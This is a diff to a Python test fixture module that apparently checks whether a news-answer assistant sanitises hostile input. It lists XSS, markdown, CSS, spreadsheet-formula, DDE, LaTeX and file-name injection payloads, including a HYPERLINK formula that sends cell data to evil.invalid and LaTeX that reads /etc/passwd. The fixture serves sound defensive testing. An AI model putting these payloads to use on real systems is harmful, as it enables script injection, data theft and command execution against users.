@@ -5,7 +5,12 @@ What a browser could run calls `hit()`, which the tests define and count; what i
 
 from __future__ import annotations
 
+from collections.abc import Sequence
+
+from assistant.answer import Answer, Citation, Claim, Doubt, Gloss, Question, Verdict
 from corpus.article import Article
+from corpus.story.clean import canonical, one_line
+from index.passage import Hit, Passage
 from tests.conftest import made_article
 
 SCRIPTS = (
@@ -14,7 +19,7 @@ SCRIPTS = (
     "<script src=//evil.invalid/a.js></script>",
     "<script\x0csrc='https://evil.invalid/b.js'>",
     "<scr<script>ipt>hit()</scr</script>ipt>",
-    "\"><script>hit()</script>",
+    '"><script>hit()</script>',
     "'><script>hit()</script>",
     "&lt;script&gt;hit()&lt;/script&gt;",
     "&#60;script&#62;hit()&#60;/script&#62;",
@@ -40,9 +45,9 @@ HANDLERS = (
     "<audio src=x onerror=hit()>",
     "<marquee onstart=hit()>m</marquee>",
     "<div onpointerover=hit() style='position:fixed;inset:0'>o</div>",
-    "\" onmouseover=hit() x=\"",
+    '" onmouseover=hit() x="',
     "' onmouseover='hit()' x='",
-    "\" autofocus onfocus=hit() \"",
+    '" autofocus onfocus=hit() "',
     "x' onclick=hit() '",
     "<a href=# onclick=hit()>click</a>",
     "<button formaction=javascript:hit()>b</button>",
@@ -78,7 +83,7 @@ ADDRESSES = (
     "//evil.invalid/x",
 )
 MUTATIONS = (
-    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
+    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
     "<style><style/><img src=x onerror=hit()>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
     "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
@@ -136,13 +141,13 @@ MARKDOWN = (
     "![a](https://evil.invalid/p.png)",
     "![a](javascript:hit())",
     "![a][ref] [ref]: https://evil.invalid/q.png",
-    "[ref]: javascript:hit() \"t\"",
+    '[ref]: javascript:hit() "t"',
     "[^1]: https://evil.invalid",
     "<https://evil.invalid/auto>",
     "<javascript:hit()>",
     "https://evil.invalid/bare www.evil.invalid mail@evil.invalid",
     "[a](https://evil.invalid \"t' onmouseover='hit()\")",
-    "![\" onerror=\"hit()](x)",
+    '![" onerror="hit()](x)',
     "**b** __b__ *i* ~~s~~ ==m== ++u++ ^^s^^",
     "```html <img src=x onerror=hit()> ```",
     "~~~js hit()~~~",
@@ -166,7 +171,7 @@ STYLES = (
     "<style>*{background:url(https://evil.invalid/u.png)}</style>",
     "<p style=\"background:url('https://evil.invalid/w.png')\">w</p>",
     "<p style='width:expression(hit())'>e</p>",
-    "<p style=\"behavior:url(#default#time2)\">b</p>",
+    '<p style="behavior:url(#default#time2)">b</p>',
     "} body { background: url(https://evil.invalid/y.png) } {",
     "'; background: url(https://evil.invalid/z.png); '",
     "<div style='position:fixed;inset:0;z-index:99999;background:red'>over</div>",
@@ -177,8 +182,8 @@ STYLES = (
 FORMULAS = (
     "=1+1",
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"https://evil.invalid/?\"&A1,\"see\")",
-    "=WEBSERVICE(\"https://evil.invalid\")",
+    '=HYPERLINK("https://evil.invalid/?"&A1,"see")',
+    '=WEBSERVICE("https://evil.invalid")',
     "+1+1",
     "-1+1",
     "@SUM(1+1)",
@@ -186,21 +191,21 @@ FORMULAS = (
     "＋1",
     "＠SUM(1)",
     "'=1+1",
-    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
-    "{ INCLUDETEXT \"https://evil.invalid/t.docx\" }",
-    "{ HYPERLINK \"https://evil.invalid\" }",
+    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
+    '{ INCLUDETEXT "https://evil.invalid/t.docx" }',
+    '{ HYPERLINK "https://evil.invalid" }',
 )
 ENTRIES = (
     "}, title = {other}, note = {",
     "}} @article{evil, title={x}}",
-    "@string{a = \"b\"} @preamble{\"x\"} @comment{y}",
+    '@string{a = "b"} @preamble{"x"} @comment{y}',
     "\\input{/etc/passwd} \\write18{calc} \\def\\x{y}",
     "TY  - BOOK",
     "ER  - ",
     "AU  - Somebody Else",
-    "\",\"title\":\"other\",\"x\":\"",
-    "{\"a\": 1} [1, 2] null \\\" \\n",
-    "a\",\"b;c\td",
+    '","title":"other","x":"',
+    '{"a": 1} [1, 2] null \\" \\n',
+    'a","b;c\td',
     "--- title: other ---",
     "title: other",
 )
@@ -217,7 +222,7 @@ NAMES = (
     "~root",
     "-rf",
     ".hidden",
-    "a/b\\c:d*e?f\"g<h>i|j",
+    'a/b\\c:d*e?f"g<h>i|j',
     "x" * 240,
     "\U00010330" * 90,
     "é" * 200,
@@ -294,14 +299,28 @@ ALL = (*CLEAN, *UNCLEAN)
 # What may reach no terminal: the control characters but tab and new line, and what turns the direction of writing.
 FORBIDDEN = frozenset(
     chr(code)
-    for code in (*range(0x20), *range(0x7F, 0xA0), 0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE0080))
+    for code in (
+        *range(0x20),
+        *range(0x7F, 0xA0),
+        0x61C,
+        0x200E,
+        0x200F,
+        *range(0x202A, 0x202F),
+        *range(0x2066, 0x206A),
+        *range(0xE0000, 0xE0080),
+    )
 ) - {"\t", "\n"}
 TURNS = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
 
 
+VERDICTS: tuple[Verdict, ...] = ("quoted", "supported", "weak", "unsupported", "unchecked")
+
+
 def article(payload: str, number: int) -> Article:
     """An article as no page is read, with the payload as it is in every field."""
-    text = f"The mayor of Zorbia{number} said {payload} on Monday.\n\n{payload}\n\n{payload} is what the mayor of Zorbia{number} said again."
+    text = (
+        f"The mayor of Zorbia{number} said {payload} on Monday.\n\n{payload}\n\n{payload} is what the mayor of Zorbia{number} said again."
+    )
     return Article(
         f"{number:016x}",
         payload,
@@ -314,3 +333,30 @@ def article(payload: str, number: int) -> Article:
         payload,
         section=payload,
     )
+
+
+def groups(payloads: Sequence[str], together: int) -> list[str]:
+    """The payloads, so many in one text."""
+    return ["  ".join(payloads[start : start + together]) for start in range(0, len(payloads), together)]
+
+
+def answer(number: int, payload: str) -> Answer:
+    """An answer that holds the payload wherever one can hold words; by its number quoted, written, or with nothing found."""
+    hostile = article(payload, number)
+    text = hostile.text
+    citations = [Citation(1, hostile, 0, text.index("\n\n")), Citation(2, hostile, text.rindex("\n\n") + 2, len(text))]
+    question = Question(payload, f"{payload} again", ("en", "id")[number % 2], publishers=(payload,), phrases=(payload,))
+    quoted = [Claim(one.quote, (one,), "quoted", (8, len(one.quote)), (Gloss(5, payload),), payload) for one in citations]
+    doubts = (Doubt("name", payload), Doubt("number", payload))
+    written = [Claim(payload, tuple(citations), VERDICTS[number // 3 % len(VERDICTS)], doubts=doubts)]
+    claims = (quoted, written, [])[number % 3]
+    hit = Hit(Passage(hostile, 0, len(text)), 1.0, 1, 1)
+    writer = payload if number % 3 == 1 else ""
+    return Answer(question, tuple(claims), (hit,), bool(claims), True, payload, (payload,), 0.5, writer, payload, 1.0)
+
+
+def in_a_collection(number: int, payload: str) -> Article:
+    """The article of a payload as an export may hold it: hostile and clean."""
+    line, hostile = one_line(payload), article(payload, number)
+    url = f"https://news.invalid/{number}"
+    return Article(hostile.id, line, canonical(hostile.text), url, line, hostile.published, (line,), "en", line, section=line)
